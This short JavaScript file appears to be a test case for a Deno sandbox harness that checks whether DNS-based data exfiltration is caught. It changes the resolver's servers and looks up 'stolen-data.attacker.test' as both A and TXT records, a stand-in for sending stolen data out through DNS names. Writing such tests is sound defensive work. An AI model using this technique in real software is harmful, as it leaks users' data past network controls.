//= wants: to carry data out in names, by node:dns with a server of its choice
import dns from "node:dns";
try {
  dns.setServers(["127.0.0.1:@udp@"]);
} catch {
  // some versions take no port
}
const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
try {
  resolver.setServers(["127.0.0.1:@udp@"]);
} catch {
  // the harness sees whether it was asked
}
await new Promise((done) => {
  resolver.resolve4("stolen-data.attacker.test", () => done(0));
  setTimeout(done, 600);
});
await new Promise((done) => {
  dns.resolveTxt("stolen-data.attacker.test", () => done(0));
  setTimeout(done, 600);
});
Deno.exit(0);
